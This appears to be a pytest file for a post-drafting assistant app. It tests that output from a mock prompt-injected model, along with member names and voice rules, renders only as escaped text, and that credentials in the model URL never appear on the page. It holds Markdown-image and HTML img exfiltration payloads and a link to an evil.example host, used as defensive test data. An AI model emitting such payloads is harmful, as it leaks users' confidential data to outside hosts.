"""Issue 14, points 4 and 9, as the attacks were run: a model that obeys an injected instruction, members and voice
rules named with Markdown, and credentials in OPENAI_BASE_URL. Nothing of it may render as an image, a link, a
colour or HTML, and the credentials appear nowhere on the page (AppTest on the demo workspace)."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from assistant.services import mentions, posts, workspace
from assistant.services.workspace import actor_for_email
from assistant.storage.models import Member, Mention
from tests.app.conftest import signed_in_app
from tests.integration.test_llm_mock import answer_chat

MAYA, SAM, RILEY = "maya@lumengrid.example", "sam@lumengrid.example", "riley@lumengrid.example"
EXFIL = "![x](http://127.0.0.1/exfil.png?d=confidential-Q3-figures)"
IMG = '<img src="http://127.0.0.1/exfil.png?d=secret">'
LINK_NAME = "[click](http://evil.example)"
IMAGE_NAME = "![i](http://x.example/y.png)"

# What Markdown would turn into an image, a link or HTML: each must appear only escaped (colours and icons are
# checked where the attack put them: the page itself uses :red-badge[...] and :material/...: on purpose).
ACTIVE_MARKUP = [
    re.compile(r"(?<!\\)!\[[^\]]*(?<!\\)\]\("),  # ![alt](url): an image the browser fetches
    re.compile(r"(?<!\\)\[[^\]]*(?<!\\)\]\(http"),  # [text](url): a link
    re.compile(r"(?<!\\)<(img|a|script)\b", re.I),  # HTML
]


def shown_values(at) -> list[str]:
    """Every string the page hands to an element that renders Markdown (bodies, and widget and tab labels)."""
    values = []
    for kind in ("markdown", "caption", "info", "warning", "error", "success", "title", "header", "subheader"):
        values += [e.value for e in at.get(kind)]
    values += [e.label for e in at.get("expandable")] + [t.label for t in at.tabs]
    values += [b.label for b in at.button] + [b.help or "" for b in at.button]
    return values


def assert_nothing_active(at) -> None:
    assert not at.exception, at.exception
    assert not at.get("imgs"), "an image element was rendered"
    for value in shown_values(at):
        for pattern in ACTIVE_MARKUP:
            assert not pattern.search(value), (pattern.pattern, value)


def all_text(at) -> str:
    """Everything the page sends to the browser, element by element (their protobuf text)."""

    def walk(node) -> Iterator[str]:
        proto = getattr(node, "proto", None)
        if proto is not None:
            yield str(proto)
        for child in getattr(node, "children", {}).values():
            yield from walk(child)

    return "\n".join(walk(at._tree))


class InjectedModel(BaseHTTPRequestHandler):
    """An OpenAI-compatible server whose answers obey an injected instruction: exfiltrate through an image."""

    protocol_version = "HTTP/1.1"

    def log_message(self, *args) -> None:
        pass

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        wants_readers = "readers" in json.dumps(body.get("response_format", {}))
        content = json.dumps(
            {
                "readers": [
                    {"reader": r, "risk": "low", "reason": f"{EXFIL} {IMG} :red[ALERT]"}
                    for r in ("best_customer", "angriest_customer", "employee", "family")
                ]
            }
            if wants_readers
            else {
                "drafts": [{"angle": f"{EXFIL}", "text": f"Steel frames arrived. {EXFIL} {IMG} #{i}"} for i in range(3)]
            }
        )
        answer_chat(self, body, content, size=7)


@pytest.fixture
def injected_model(monkeypatch):
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), InjectedModel)
    threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    monkeypatch.setenv("OPENAI_BASE_URL", f"http://127.0.0.1:{httpd.server_address[1]}/v1")
    monkeypatch.setenv("OPENAI_MODEL", "obedient-local")
    monkeypatch.setenv("LLM_MAX_RETRIES", "0")
    yield httpd
    httpd.shutdown()
    httpd.server_close()


def button(at, label: str):
    return next(b for b in at.button if b.label == label)


def test_model_output_streams_as_text_and_drafts_show_literally(demo_db, injected_model):
    at = signed_in_app(demo_db, MAYA).run()
    at.switch_page("pages/compose.py").run()
    next(t for t in at.text_area if t.label == "Idea, notes or a link").input("Steel frames arrived early").run()
    button(at, "Draft three versions").click().run()
    assert_nothing_active(at)
    streamed = " ".join(t.value for t in at.text)
    assert EXFIL in streamed and "Steel frames arrived." in streamed  # the stream itself, shown as plain text
    cards = [m.value for m in at.markdown if "Steel frames arrived" in m.value]
    assert len(cards) == 3 and all("!\\[x\\]" in c and "\\<img" in c for c in cards)  # literal, escaped
    button(at, "Use this draft").click().run()
    button(at, "How would the four readers read it?").click().run()
    assert_nothing_active(at)
    readers = [m.value for m in at.markdown if "ALERT" in m.value]
    assert len(readers) == 4 and not any(re.search(r"(?<!\\):red\\?\[", r) for r in readers)  # no colour, no image


@contextmanager
def renamed(db, email: str, name: str) -> Iterator[None]:
    with db.writing() as session:
        member = session.query(Member).filter(Member.email == email).one()
        before, member.display_name = member.display_name, name
    try:
        yield
    finally:
        with db.writing() as session:
            session.query(Member).filter(Member.email == email).one().display_name = before


@pytest.mark.parametrize("name", [LINK_NAME, IMAGE_NAME])
def test_a_member_named_with_markdown_shows_literally_in_the_inbox_claim_notice(demo_db, name):
    with demo_db.writing() as session:
        mention = session.query(Mention).filter(Mention.state == "new").order_by(Mention.id).first()
        mention_id = mention.id
    with renamed(demo_db, SAM, name):
        sam = actor_for_email(demo_db, SAM)
        mentions.claim_mention(demo_db, sam, mention_id)
        try:
            at = signed_in_app(demo_db, MAYA)
            at.query_params["mention"] = str(mention_id)
            at.switch_page("pages/inbox.py").run()
            assert_nothing_active(at)
            notice = [i.value for i in at.info if "is answering this mention" in i.value]
            assert notice and notice[0].startswith("!\\[i\\]" if name == IMAGE_NAME else "\\[click\\]"), notice
        finally:
            mentions.release_claim(demo_db, sam, mention_id)


@pytest.mark.parametrize("name", [LINK_NAME, IMAGE_NAME])
def test_a_member_named_with_markdown_shows_literally_in_review_captions(demo_db, name):
    # Sam writes a post (a figure: the disclosure finding asks for a second approver), Riley approves it once: the
    # captions name both, the author in "Version 1 by …" and the approver in "Approvals of this version …".
    with renamed(demo_db, SAM, name), renamed(demo_db, RILEY, name):
        sam, riley = actor_for_email(demo_db, SAM), actor_for_email(demo_db, RILEY)
        executive_id = workspace.list_executives(demo_db, sam)[0].id
        post = posts.create_draft(demo_db, sam, executive_id, "x", "Our Q3 revenue was up 18% year on year.")
        posts.submit_for_review(demo_db, sam, post.id)
        posts.review_post(demo_db, riley, post.id, "approve", override_reason="Figures are public since Monday.")
        at = signed_in_app(demo_db, RILEY).run()
        at.switch_page("pages/review.py").run()
        at.selectbox(key="post").select(post.id).run()
        assert_nothing_active(at)
        expected = "!\\[i\\]" if name == IMAGE_NAME else "\\[click\\]"
        about = [c.value for c in at.caption if c.value.startswith("Version 1 by")]
        assert about and expected in about[0], about
        approvals = [c.value for c in at.caption if c.value.startswith("Approvals of this version: 1 of 2")]
        assert approvals and expected in approvals[0], [c.value for c in at.caption]


def test_voice_rules_with_markdown_show_literally_in_settings(demo_db):
    maya = actor_for_email(demo_db, MAYA)
    executive_id = workspace.list_executives(demo_db, maya)[0].id
    stored = next(e for e in workspace.list_executives(demo_db, maya) if e.id == executive_id).voice_profile
    rules = {
        "do": [f"Say it plainly {EXFIL}", ":red[Shout] :material/warning: $E=mc^2$"],
        "dont": [IMG, "# Heading", "1. numbered"],
        "never_words": [],
        "sign_off": "",
    }
    workspace.set_voice_material(demo_db, maya, executive_id, stored.get("past_posts", []), rules)
    try:
        at = signed_in_app(demo_db, MAYA).run()
        at.switch_page("pages/settings.py").run()
        assert_nothing_active(at)
        summary = next(m.value for m in at.markdown if "Say it plainly" in m.value)
        assert "!\\[x\\]" in summary and "\\<img" in summary and "\\$E=mc^2\\$" in summary
        assert "\\:red\\[Shout\\]" in summary and ":material/warning:" not in summary  # no colour, no icon
        assert "\n- Don't: # Heading\n" in summary  # a bullet each; mid-line, '#' is no heading
    finally:
        workspace.set_voice_material(demo_db, maya, executive_id, stored.get("past_posts", []), stored.get("rules", {}))


def test_credentials_in_the_model_address_appear_nowhere_on_the_compose_page(demo_db, monkeypatch):
    monkeypatch.setenv("OPENAI_BASE_URL", "http://llmuser:S3CRET@127.0.0.1:9/v1?api_key=K3Y-SECRET")
    monkeypatch.setenv("OPENAI_MODEL", "llama-local")
    monkeypatch.setenv("LLM_MAX_RETRIES", "0")
    monkeypatch.setenv("LLM_TIMEOUT", "2")
    at = signed_in_app(demo_db, MAYA).run()
    at.switch_page("pages/compose.py").run()
    assert not at.exception
    assert any("127.0.0.1:9" in c.value for c in at.caption)  # the host is still named
    page = all_text(at)
    assert "S3CRET" not in page and "llmuser" not in page and "K3Y-SECRET" not in page
    # and when the (unreachable) server fails, the error does not quote the address either
    next(t for t in at.text_area if t.label == "Idea, notes or a link").input("Steel frames arrived early").run()
    button(at, "Draft three versions").click().run()
    assert not at.exception, at.exception
    page = all_text(at)
    assert at.error and "S3CRET" not in page and "llmuser" not in page and "K3Y-SECRET" not in page
